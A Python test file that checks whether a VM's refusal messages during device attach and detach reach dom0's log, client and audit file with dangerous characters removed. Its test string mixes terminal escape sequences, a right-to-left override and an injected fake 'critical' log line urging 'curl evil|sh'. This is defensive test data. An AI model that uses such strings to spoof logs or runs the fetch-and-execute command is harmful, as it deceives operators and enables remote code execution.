"""A VM's words in a refusal reach dom0's log and dom0's user as one line."""

from __future__ import annotations

import logging
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
import trio
import trio.testing
from pedos_dom0.attachments.stop_timeout import STOP_TIMEOUT
from pedos_protocol.errors import CallError
from pedos_protocol.names import is_printable
from trio.abc import Clock

from tests.dom0.fakes import World, named

EVIL = "\x1b]0;pwned\x07\x1b[2J no\npedos-dom0: critical: run  curl evil|sh\u202e"


async def refuse(_params: Any) -> None:
    raise CallError("failed", EVIL, {"hint": EVIL, EVIL: [EVIL]})


@pytest.fixture
async def world(tmp_path: Path, nursery: trio.Nursery) -> AsyncIterator[World]:
    world = World(tmp_path, nursery)
    world.vm("sys-usb", "stick")
    world.vm("work")
    world.dom0_agent()
    yield world
    await world.kill()


def assert_harmless(world: World, caplog: pytest.LogCaptureFixture, *, in_log: bool) -> None:
    said = [record.getMessage() for record in caplog.records]
    assert all(map(is_printable, said)), said
    assert any("pedos-dom0: critical: run" in each for each in said) == in_log
    audit = (world.folder / "audit.jsonl").read_text()
    assert "\\u001b" not in audit and "\\u202e" not in audit


async def test_a_leftover_of_any_vm_that_is_refused(
    world: World, autojump_clock: Clock, caplog: pytest.LogCaptureFixture
) -> None:
    work = world.driver.agents["work"]
    work.exports["0" * 16] = {
        **{"attachment": "0" * 16, "device_class": "block", "device": "sda", "peer": 2},
        **{"port": 17, "read_only": False},
    }
    work.on["export.stop"] = refuse
    await world.start()
    assert_harmless(world, caplog, in_log=True)


@pytest.mark.parametrize("method", ["import.stop", "export.stop"])
async def test_a_detach_that_is_refused(
    world: World, autojump_clock: Clock, caplog: pytest.LogCaptureFixture, method: str
) -> None:
    await world.start()
    await world.client.attach("work", "sys-usb:stick")
    world.driver.agents["work" if method == "import.stop" else "sys-usb"].on[method] = refuse
    with trio.move_on_after(2 * STOP_TIMEOUT):
        detach = named("work", "sys-usb:stick")
        await world.client.call("device.detach", **detach, force=method == "import.stop")
    await trio.testing.wait_all_tasks_blocked()
    assert_harmless(world, caplog, in_log=True)


@pytest.mark.parametrize("method", ["import.start", "export.start"])
async def test_an_attach_that_is_refused(
    world: World, autojump_clock: Clock, caplog: pytest.LogCaptureFixture, method: str
) -> None:
    caplog.set_level(logging.DEBUG)
    await world.start()
    world.driver.agents["work" if method == "import.start" else "sys-usb"].on[method] = refuse
    with pytest.raises(CallError) as error:
        await world.client.call("device.attach", **named("work", "sys-usb:stick"))
    assert is_printable(error.value.message)
    assert_harmless(world, caplog, in_log=True)
